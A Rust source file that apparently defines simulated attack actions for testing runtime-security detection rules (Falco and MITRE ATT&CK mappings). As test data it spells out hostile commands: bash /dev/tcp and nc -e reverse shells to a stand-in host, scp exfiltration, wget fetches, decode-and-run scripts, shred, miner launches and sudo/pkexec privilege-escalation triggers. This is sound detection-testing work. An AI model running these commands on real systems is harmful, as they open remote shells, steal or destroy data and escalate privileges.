//! Programs that give themselves away by name or arguments.

use super::secrets::ONLY_NAMED;
use crate::generate::action::{Action, Need, PART, Part, Place, Role, Start};

/// What makes our containers poses, too, and that is more than is sent of one rule in a minute
/// (`repetition.alerts_per_minute`): this comes before all others.
pub(super) const POSING: &[Action] = &[Action {
    name: "pose-as-package-manager",
    does: "runs a program called apt from where no package puts one",
    rules: &["Program poses as a trusted one"],
    mitre: "T1036.005",
    cast: &[Part { program: "apt", ..PART }],
    ..ONLY_NAMED
}];

pub(super) const ACTIONS: &[Action] = &[
    Action {
        name: "shell-below-server",
        does: "has a web server start a shell",
        rules: &["Run shell untrusted"],
        falco: &["Run shell untrusted", "Web Server Spawned Shell"],
        mitre: "T1190",
        cast: &[
            Part { program: "nginx", ..PART },
            Part { program: "sh", args: &["-c", "id; : <token>"], ..PART },
        ],
        ..ONLY_NAMED
    },
    Action {
        name: "program-below-server",
        does: "has a web server start whoami",
        rules: &["Web server started unexpected program"],
        falco: &[],
        mitre: "T1505.003",
        cast: &[Part { program: "nginx", ..PART }, Part { program: "whoami", ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "copy-by-kubectl",
        does: "has the container runtime start tar, as `kubectl cp` does",
        rules: &["Exfiltrating Artifacts via Kubernetes Control Plane"],
        falco: &[],
        mitre: "T1048",
        place: Place::ContainerEntry,
        cast: &[Part { program: "tar", args: &["cf", "-", "/<token>"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "program-below-database",
        does: "has a database server start another program",
        rules: &["DB program spawned process"],
        falco: &["DB program spawned process"],
        mitre: "T1190",
        cast: &[Part { program: "postgres", ..PART }, PART],
        ..ONLY_NAMED
    },
    Action {
        name: "netcat-in-container",
        does: "runs nc -e in a container",
        rules: &["Netcat Remote Code Execution in Container"],
        falco: &["Netcat Remote Code Execution in Container"],
        mitre: "T1059",
        place: Place::Container,
        cast: &[Part {
            program: "nc",
            args: &["198.51.100.7", "4444", "-e", "/bin/sh", "<token>"],
            ..PART
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "netcat-on-host",
        does: "runs nc -e on the host",
        rules: &["Netcat/Socat Remote Code Execution on Host"],
        falco: &["Netcat/Socat Remote Code Execution on Host"],
        needs: &[Need::Host],
        mitre: "T1059",
        cast: &[Part {
            program: "nc",
            args: &["198.51.100.7", "4444", "-e", "/bin/sh", "<token>"],
            ..PART
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "network-tool-in-container",
        does: "runs nmap in a container",
        rules: &["Launch Suspicious Network Tool in Container"],
        falco: &["Launch Suspicious Network Tool in Container"],
        mitre: "T1046",
        place: Place::Container,
        cast: &[Part { program: "nmap", args: &["-sS", "198.51.100.0/24", "<token>"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "reverse-shell-by-arguments",
        does: "runs a shell with a script that connects to /dev/tcp, in a container",
        rules: &["Reverse shell in container"],
        falco: &[],
        mitre: "T1059.004",
        place: Place::Container,
        cast: &[Part {
            program: "bash",
            args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
            ..PART
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "reverse-shell-on-host",
        does: "runs a shell with a script that connects to /dev/tcp, on the host",
        rules: &["Reverse shell on host"],
        needs: &[Need::Host],
        mitre: "T1059.004",
        cast: &[Part {
            program: "bash",
            args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
            ..PART
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "encoded-script",
        does: "runs a shell with a script that decodes another and runs that",
        rules: &["Encoded script run"],
        mitre: "T1027",
        cast: &[Part {
            program: "sh",
            args: &["-c", "echo aWQK | base64 -d | sh # <token>"],
            ..PART
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "debugfs-in-container",
        does: "runs debugfs in a container",
        rules: &["Debugfs Launched in Privileged Container"],
        // Its rule wants to know of the runtime that the container is privileged.
        falco: &[],
        mitre: "T1611",
        place: Place::Container,
        cast: &[Part { program: "debugfs", ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "stop-lanner",
        does: "runs pkill with what our daemons' names begin with",
        rules: &["Lanner stopped by command"],
        mitre: "T1562.001",
        cast: &[Part { program: "pkill", args: &["lanner-<token>"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "copy-files-away",
        does: "runs scp in a container",
        rules: &["Launch Remote File Copy Tools in Container"],
        falco: &["Launch Remote File Copy Tools in Container"],
        mitre: "T1020",
        place: Place::Container,
        cast: &[Part { program: "scp", args: &["-r", "/srv", "198.51.100.7:/<token>"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "fetch-tool",
        does: "runs wget in a container",
        falco: &["Launch Ingress Remote File Copy Tools in Container"],
        mitre: "T1105",
        place: Place::Container,
        cast: &[Part { program: "wget", args: &["http://198.51.100.7/<token>"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "install-package",
        does: "runs apk in a container",
        rules: &["Launch Package Management Process in Container"],
        falco: &["Launch Package Management Process in Container"],
        mitre: "T1505",
        place: Place::Container,
        cast: &[Part { program: "apk", args: &["add", "<token>"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "kubectl-in-container",
        does: "runs kubectl in a container",
        rules: &["Kubernetes Client Tool Launched in Container"],
        falco: &["Kubernetes Client Tool Launched in Container"],
        mitre: "T1610",
        place: Place::Container,
        cast: &[Part { program: "kubectl", args: &["get", "secrets", "<token>"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "decode-payload",
        does: "runs base64 -d in a container",
        falco: &["Decoding Payload in Container"],
        mitre: "T1132",
        place: Place::Container,
        cast: &[Part { program: "base64", args: &["-d", "<token>"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "miner-by-arguments",
        does: "runs a program with the address of a mining pool",
        rules: &["Crypto miner started"],
        falco: &["Detect crypto miners using the Stratum protocol"],
        mitre: "T1496",
        cast: &[Part {
            program: "kworker",
            args: &["-o", "stratum+tcp://pool.invalid:3333", "-u", "<token>"],
            ..PART
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "miner-by-name",
        does: "runs xmrig",
        rules: &["Crypto miner started"],
        falco: &["Known Cryptominer Process Executed"],
        mitre: "T1496",
        cast: &[Part { program: "xmrig", ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "destroy-data",
        does: "runs shred",
        rules: &["Remove Bulk Data from Disk"],
        falco: &["Remove Bulk Data from Disk"],
        mitre: "T1485",
        cast: &[Part { program: "shred", args: &["-u", "/<token>"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "look-around-by-hand",
        does: "runs whoami at a terminal",
        falco: &["Basic Interactive Reconnaissance"],
        mitre: "T1033",
        cast: &[
            Part { program: "intruder", role: Role::OpenTerminal, ..PART },
            Part { program: "whoami", start: Start::Exec, ..PART },
        ],
        ..ONLY_NAMED
    },
    Action {
        name: "system-user-interactive",
        does: "has sshd start a program as the user nobody",
        rules: &["System user interactive"],
        falco: &["System user interactive"],
        mitre: "T1059",
        needs: &[Need::Root, Need::Nobody],
        cast: &[Part { program: "sshd", role: Role::BecomeNobody, ..PART }, PART],
        ..ONLY_NAMED
    },
    Action {
        name: "sudo-overflow",
        does: "runs sudoedit with the arguments of CVE-2021-3156",
        rules: &["Exploit of a set-user-id program"],
        needs: &[Need::OtherLogin],
        falco: &["Sudo Potential Privilege Escalation"],
        mitre: "T1548.003",
        cast: &[Part { program: "sudoedit", args: &["-s", "<token>", "\\"], ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "pkexec-without-arguments",
        does: "runs pkexec as CVE-2021-4034 does",
        rules: &["Exploit of a set-user-id program"],
        needs: &[Need::OtherLogin],
        falco: &["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"],
        mitre: "T1548",
        cast: &[Part { program: "pkexec", marked: false, ..PART }],
        ..ONLY_NAMED
    },
    Action {
        name: "misuse-loader-environment",
        does: "runs a program with GLIBC_TUNABLES in its environment",
        rules: &["Exploit of a set-user-id program"],
        needs: &[Need::OtherLogin],
        falco: &["Potential Local Privilege Escalation via Environment Variables Misuse"],
        mitre: "T1574.006",
        cast: &[Part {
            env: &[("GLIBC_TUNABLES", "glibc.malloc.mxfast=glibc.malloc.mxfast=1")],
            ..PART
        }],
        ..ONLY_NAMED
    },
    Action {
        name: "proxy-environment",
        does: "runs curl with HTTP_PROXY in its environment",
        falco: &["Program run with disallowed http proxy env"],
        mitre: "T1204",
        cast: &[Part {
            program: "curl",
            env: &[("HTTP_PROXY", "http://198.51.100.7:3128")],
            ..PART
        }],
        ..ONLY_NAMED
    },
];
